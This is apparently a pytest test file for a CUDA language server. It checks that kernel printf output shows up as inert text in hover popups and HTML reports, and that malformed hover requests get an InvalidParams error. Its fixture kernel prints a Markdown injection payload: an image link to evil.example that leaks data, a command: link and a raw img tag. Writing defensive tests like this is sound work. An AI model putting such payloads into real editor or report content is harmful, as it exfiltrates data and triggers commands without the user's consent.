"""The catalogue's editor entries, against the real language server (pytest-lsp): what a kernel
prints reaches the hover and the report as text, never as live Markdown, and a request the
server cannot read gets an error reply."""
from __future__ import annotations

import asyncio
import sys
import time

import pytest
import pytest_lsp
from lsprotocol import types
from pygls.exceptions import JsonRpcException
from pytest_lsp import ClientServerConfig, LanguageClient, client_capabilities

from astra_cuda import contract

from . import catalogue

SETTINGS = {"backend": "cpu", "rounds": 1, "checkOnOpen": True, "checkOnSave": True, "llm": {"baseUrl": "", "model": ""}}

# A kernel that prints Markdown with a remote image carrying data and a command link, then traps:
# the check's failure message quotes what it printed.
PRINTS_MARKDOWN = r'''#include <cstdio>
/* @astra
grid = [1]
block = [32]
[sizes]
n = [1, 7]
[args]
x = { type = "float", shape = ["n"], output = true }
n = "n"
*/
__global__ void k(float* x, int n) {
  int i = threadIdx.x;
  if (i == 0) {
    printf("$(zap) ![x](https://evil.example/leak?d=%d) [go](command:astra.optimizeKernel?%%5B%%5D) <img src=x>\n", n);
    __trap();
  }
  if (i < n) x[i] = 1.0f;
}
'''


@pytest_lsp.fixture(config=ClientServerConfig(server_command=[sys.executable, "-m", "astra_cuda.lsp"]))
async def client(lsp_client: LanguageClient):
    lsp_client.feature(types.WORKSPACE_CODE_LENS_REFRESH)(lambda *_: None)
    lsp_client.feature(types.WORKSPACE_INLAY_HINT_REFRESH)(lambda *_: None)
    lsp_client.feature("astra/status")(lambda params: None)
    await lsp_client.initialize_session(types.InitializeParams(
        capabilities=client_capabilities("visual-studio-code"), initialization_options={"settings": SETTINGS}))
    yield
    await lsp_client.shutdown_session()


def _live(markdown: str) -> list[str]:
    """What of `markdown` would be live once rendered: images, links, raw HTML."""
    from astra_cuda import report
    html = report.markdown(markdown)
    return [x for x in ("<img", "<a ", "href=") if x in html]


@pytest.mark.parametrize("attack", [a for a in catalogue.ALL if a.kind == "editor" and a.arg == "output"],
                         ids=lambda a: a.name)
async def test_kernel_output_is_text(attack, client: LanguageClient, tmp_path):
    (tmp_path / ".git").mkdir()
    path = tmp_path / "k.cu"
    path.write_text(PRINTS_MARKDOWN)
    uri = path.as_uri()
    client.text_document_did_open(types.DidOpenTextDocumentParams(
        types.TextDocumentItem(uri=uri, language_id="cuda-cpp", version=1, text=PRINTS_MARKDOWN)))
    line = PRINTS_MARKDOWN.splitlines().index("__global__ void k(float* x, int n) {")
    hover = None
    end = time.monotonic() + 180
    while time.monotonic() < end:
        hover = await asyncio.wait_for(client.text_document_hover_async(types.HoverParams(
            types.TextDocumentIdentifier(uri=uri), types.Position(line=line, character=16))), 30)
        if hover is not None and "evil" in hover.contents.value:
            break
        await asyncio.sleep(0.5)
    assert hover is not None and "evil" in hover.contents.value, hover  # the check quoted the output
    said = hover.contents.value
    if attack.name == "hover_markdown_injection":
        assert _live(said) == [], said
    else:
        page = await asyncio.wait_for(client.workspace_execute_command_async(types.ExecuteCommandParams(
            command=contract.command("report"), arguments=[uri, "k"])), 30)
        assert "evil.example" in page["html"]
        assert "<img" not in page["html"] and "href=\"https://evil" not in page["html"], page["html"]
        assert "href=\"command:astra.optimizeKernel" not in page["html"], page["html"]


async def test_malformed_hover_gets_an_error_reply(client: LanguageClient, tmp_path):
    """A hover whose parameters do not read (a number for a URI, a string for a position)."""
    known = client.protocol.get_message_type
    client.protocol.get_message_type = lambda m: None if m == types.TEXT_DOCUMENT_HOVER else known(m)  # raw params
    try:
        with pytest.raises(JsonRpcException) as e:
            await asyncio.wait_for(client.protocol.send_request_async(
                types.TEXT_DOCUMENT_HOVER, {"textDocument": {"uri": 5}, "position": "x"}), 10)
    finally:
        client.protocol.get_message_type = known
    assert e.value.code == -32602, e.value  # InvalidParams
    # and the server goes on answering
    path = tmp_path / "k.cu"
    path.write_text("__global__ void k(float* x) { x[0] = 1.0f; }\n")
    client.text_document_did_open(types.DidOpenTextDocumentParams(
        types.TextDocumentItem(uri=path.as_uri(), language_id="cuda-cpp", version=1, text=path.read_text())))
    hover = await asyncio.wait_for(client.text_document_hover_async(types.HoverParams(
        types.TextDocumentIdentifier(uri=path.as_uri()), types.Position(line=0, character=17))), 10)
    assert hover is not None and "Astra" in hover.contents.value
